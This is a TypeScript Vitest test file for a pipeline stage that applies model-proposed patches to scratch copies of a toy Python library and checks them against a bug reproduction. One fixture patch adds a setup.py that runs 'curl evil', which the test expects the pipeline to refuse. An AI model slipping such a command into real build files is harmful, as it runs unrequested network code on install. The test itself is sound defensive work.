import { chmodSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { runCandidate } from '../../../../src/agent/run-candidate.js';
import { createExecutor, readExecConfig } from '../../../../src/exec/index.js';
import type { ScriptExecutor } from '../../../../src/exec/types.js';
import { createLlmClient } from '../../../../src/llm/index.js';
import { silentLogger } from '../../../../src/log.js';
import { createPatchedCopies, runCandidateFix } from '../../../../src/pipeline/stages/candidate-fix/index.js';
import { loadPrompts } from '../../../../src/prompts/load-prompts.js';
import { runReport } from '../../../../src/report/index.js';
import { startScriptedAnthropicServer, type ScriptedServer } from '../../../helpers/anthropic-wire-server.js';
import { makeTempDir } from '../../../helpers/temp-dir.js';
import { candidateAnswer, WIDEN_BLOCKS, WIDEN_FIX, WIDEN_ISSUE, WIDEN_REPRO } from '../../../helpers/toylib-widen.js';

/**
 * The candidate-fix step against real runs (issue 41): a tiny library checked out for the run, its reproduction run
 * in the local sandbox, the model scripted on the loopback Anthropic wire, each patch applied to a scratch copy and
 * the reproduction re-run there. One case per outcome the step can have.
 */

const STATS = 'def upper(xs):\n    """The upper bound: 1.2 times the largest value."""\n    return max(xs) * 1.1\n';

/** The project at the issue's ref: readable by the sandbox's uid. */
function toylib(): string {
  const dir = makeTempDir('repgen-candfix-ws-');
  chmodSync(dir, 0o755);
  mkdirSync(join(dir, 'toylib'));
  writeFileSync(join(dir, 'toylib', '__init__.py'), '');
  writeFileSync(join(dir, 'toylib', 'blocks.py'), WIDEN_BLOCKS);
  writeFileSync(join(dir, 'toylib', 'stats.py'), STATS);
  mkdirSync(join(dir, 'tests'));
  writeFileSync(join(dir, 'tests', 'test_blocks.py'), 'def test_widen():\n    pass\n');
  return dir;
}

const WIDEN_CHECK = 'from toylib.blocks import widen\n\nassert widen([1, 2], 3) == [3, 6, 0]\n';

let server: ScriptedServer | undefined;
let executor: ScriptExecutor;
let runs = 0;
beforeAll(async () => {
  const inner = await createExecutor(readExecConfig({}), { log: silentLogger });
  executor = { name: inner.name, run: (req, sig) => (runs++, inner.run(req, sig)) };
  return () => inner.close?.();
});
afterEach(async () => {
  await server?.close();
  server = undefined;
});

/** Where the copies go: searchable by the sandbox's uid, as the operator's temp folder is. */
function copiesRoot(): string {
  const dir = makeTempDir('repgen-candfix-copies-');
  chmodSync(dir, 0o755);
  return dir;
}

const settings = { runTimeoutMs: 60_000, runMemoryMb: 1024 };

/** The issue read without a model, its reproduction run against the checkout, then the step with these answers. */
async function candidateFix(issue: string, repro: string, answers: string[], opts: { checkout?: string; packages?: string[] } = {}) {
  const checkout = opts.checkout ?? toylib();
  const workspace = { hostPath: checkout, packages: opts.packages ?? ['toylib'] };
  const report = await runReport(
    { issue: { title: '', body: issue }, settings: { maxIssueChars: 100_000, maxLlmIssueChars: 30_000 } },
    { llm: null, log: silentLogger },
  );
  const final = await runCandidate(repro, { report: report.reading, seed: 0, settings }, { executor, workspace: { hostPath: checkout } });
  expect(final.match.verdict, `${final.run.output}\n${final.match.reasons.join('; ')}`).toBe('reproduced');
  server = await startScriptedAnthropicServer(answers);
  const llm = await createLlmClient({
    provider: 'anthropic',
    apiKey: 'sk-test-key',
    baseURL: server.url,
    maxRetries: 0,
    initialBackoffMs: 1,
  });
  if (!llm) throw new Error('no client for the wire server');
  const prompt = (await loadPrompts(['candidate-fix'] as const))['candidate-fix'];
  const before = runs;
  const record = await runCandidateFix(
    { final, confirmedSeeds: [7], report, bundles: [], workspace, settings, budget: { tokens: 400_000, costUsd: 5 } },
    { llm, executor, prompt, copies: createPatchedCopies({ root: copiesRoot() }), log: silentLogger },
  );
  return { record, checkout, requests: server.requests.map((r) => r.rawBody), runs: runs - before };
}

describe('the candidate fix against the reproduction', { timeout: 600_000 }, () => {
  it('a patch that turns the reproduction green with the same seeds: fix-sensitive; the checkout itself never changes', async () => {
    const { record, checkout, requests } = await candidateFix(WIDEN_ISSUE, WIDEN_REPRO, [candidateAnswer(WIDEN_FIX, WIDEN_CHECK)]);
    expect(record.answer, JSON.stringify(record.attempts, null, 1)).toBe('yes');
    expect(record.result).toBe('fix_sensitive');
    expect(record.attempts).toHaveLength(1);
    expect(record.attempts[0]!.runs.map((r) => [r.seed, r.outcome])).toEqual([
      [0, 'passed'],
      [7, 'passed'],
    ]);
    expect(record.diff).toBe(WIDEN_FIX);
    expect(record.attempts[0]!.check).toBeNull();
    expect(readFileSync(join(checkout, 'toylib', 'blocks.py'), 'utf8')).toBe(WIDEN_BLOCKS);
    // The prompt shows the checkout's file the traceback runs through, numbered, so context lines can be copied.
    expect(requests).toHaveLength(1);
    expect(requests[0]).toContain('# toylib/blocks.py');
    expect(requests[0]).toContain('   3|     shortcut = list(xs)');
    // The expectation is said once, in its own section, not again in the report's summary (issue 41: no duplicates).
    expect(requests[0]).toContain('What the report says should happen instead:');
    expect(requests[0]).not.toContain('Expected behaviour:');
  });

  it('a patch that does not apply is no evidence; the second patch gets that as feedback and turns it green', async () => {
    const stale = WIDEN_FIX.replace('-    shortcut = list(xs)', '-    shortcut = tuple(xs)');
    const { record, requests } = await candidateFix(WIDEN_ISSUE, WIDEN_REPRO, [candidateAnswer(stale), candidateAnswer(WIDEN_FIX)]);
    expect(record.attempts.map((a) => [a.result, a.noEvidence])).toEqual([
      ['no_evidence', 'does_not_apply'],
      ['fix_sensitive', null],
    ]);
    expect(record.attempts[0]!.reason).toMatch(/the patch does not apply: hunk 1 of toylib\/blocks\.py \(at line 2\) does not match/);
    expect(requests[1]).toMatch(/did not make the reproduction pass: the patch does not apply/);
    expect(record.answer).toBe('yes');
  });

  it('a patch that touches a test, then one that touches setup.py: refused before anything runs; no evidence, not a no', async () => {
    const toTest = `--- a/tests/test_blocks.py\n+++ b/tests/test_blocks.py\n@@ -1,2 +1,2 @@\n def test_widen():\n-    pass\n+    assert True\n`;
    const toSetup = `--- /dev/null\n+++ b/setup.py\n@@ -0,0 +1 @@\n+import os; os.system("curl evil")\n`;
    const {
      record,
      runs: made,
      checkout,
    } = await candidateFix(WIDEN_ISSUE, WIDEN_REPRO, [candidateAnswer(toTest), candidateAnswer(toSetup)]);
    expect(record.attempts.map((a) => a.reason)).toEqual([
      'the patch is refused: tests/test_blocks.py is in a test folder',
      'the patch is refused: setup.py is a build or setup file',
    ]);
    expect(record.answer).toBe('no_evidence');
    expect(record.diff).toBeNull();
    expect(made).toBe(0);
    expect(readFileSync(join(checkout, 'tests', 'test_blocks.py'), 'utf8')).toBe('def test_widen():\n    pass\n');
  });

  it("a patch whose application breaks the project's import: no evidence, with the import's error", async () => {
    const broken = WIDEN_FIX.replace('+    shortcut = list(xs) + [0] * (out - len(xs))', '+    shortcut = list(xs) + [0] * (out - len(xs)');
    const { record } = await candidateFix(WIDEN_ISSUE, WIDEN_REPRO, [candidateAnswer(broken), candidateAnswer(broken)]);
    expect(record.attempts[0]).toMatchObject({ result: 'no_evidence', noEvidence: 'breaks_import', runs: [] });
    expect(record.attempts[0]!.importFailure).toMatch(/SyntaxError/);
    expect(record.answer).toBe('no_evidence');
  });
  it('a package that does not import without the patch either (tooling the env never needed): not the patch, the runs decide', async () => {
    // Lightning's `.actions`-style helper: imports a module only its own CI has; the same failure patched and unpatched.
    const checkout = toylib();
    mkdirSync(join(checkout, 'tooling'));
    writeFileSync(join(checkout, 'tooling', '__init__.py'), 'import assistant\n');
    const { record } = await candidateFix(WIDEN_ISSUE, WIDEN_REPRO, [candidateAnswer(WIDEN_FIX, WIDEN_CHECK)], {
      checkout,
      packages: ['tooling', 'toylib'],
    });
    expect(
      record.attempts.map((a) => a.result),
      JSON.stringify(record.attempts, null, 1),
    ).toEqual(['fix_sensitive']);
    expect(record.answer).toBe('yes');
    // A patch that breaks a module of its own is still the patch's, beside the same tooling failure.
    const broken = WIDEN_FIX.replace('+    shortcut = list(xs) + [0] * (out - len(xs))', '+    shortcut = list(xs) + [0] * (out - len(xs)');
    const again = await candidateFix(WIDEN_ISSUE, WIDEN_REPRO, [candidateAnswer(broken), candidateAnswer(broken)], {
      checkout,
      packages: ['toylib', 'tooling'],
    });
    expect(again.record.attempts[0]).toMatchObject({ result: 'no_evidence', noEvidence: 'breaks_import', runs: [] });
    expect(again.record.attempts[0]!.importFailure).toMatch(/SyntaxError/);
  });

  const STATS_ISSUE =
    '# toylib.stats.upper returns 3.3 for [3.0], expected 3.6\n\nThe docs say the upper bound is 1.2 times the largest value, but:\n\n' +
    '```python\nfrom toylib.stats import upper\nprint(upper([3.0]))\n```\n\nprints `3.3000000000000003`. Expected: `3.6`.\n';
  // The report states 3.6; the reproduction asserts exact float equality, which no correct fix gives (3.5999999999999996).
  const NARROW =
    'from toylib.stats import upper\n\nu = upper([3.0])\nprint(f"upper = {u}")\nassert u == 3.6, f"upper([3.0]) is {u}, the report expects 3.6"\n';
  const STATS_FIX = '--- a/toylib/stats.py\n+++ b/toylib/stats.py\n@@ -3 +3 @@\n-    return max(xs) * 1.1\n+    return max(xs) * 1.2\n';

  it("a narrow oracle caught: the reproduction still fails with a patch under which an independent check of the report's expectation passes", async () => {
    const check = 'from toylib.stats import upper\n\nu = upper([3.0])\nassert abs(u - 3.6) < 1e-9, f"upper([3.0]) is {u}"\n';
    const { record } = await candidateFix(STATS_ISSUE, NARROW, [candidateAnswer(STATS_FIX, check)]);
    expect(
      record.attempts.map((a) => a.result),
      JSON.stringify(record.attempts, null, 1),
    ).toEqual(['oracle_suspect']);
    const a = record.attempts[0]!;
    expect(a.runs.every((r) => r.outcome === 'reproduces')).toBe(true);
    expect(a.runs[0]!.outputExcerpt).toMatch(/upper\(\[3\.0\]\) is 3\.5999999999999996, the report expects 3\.6/);
    expect(a.check).toMatchObject({ unpatched: 'failed', patched: 'passed' });
    expect(record).toMatchObject({ answer: 'no', result: 'oracle_suspect' });
    expect(record.summary).toMatch(/still fails with a change that makes the report's expectation true/);
  });

  it('the same patch with a check that passes without it (it cannot see the bug): still fails, the oracle not suspected', async () => {
    const blind = 'from toylib.stats import upper\n\nassert upper([3.0]) > 3\n';
    const { record } = await candidateFix(STATS_ISSUE, NARROW, [candidateAnswer(STATS_FIX, blind), candidateAnswer(STATS_FIX, blind)]);
    expect(record.attempts.map((a) => a.result)).toEqual(['still_fails', 'still_fails']);
    expect(record.attempts[0]!.check).toMatchObject({ unpatched: 'passed', patched: null });
    expect(record.attempts[0]!.reason).toMatch(/passes without the patch, so it cannot vouch for it/);
    expect(record.answer).toBe('no');
  });
});
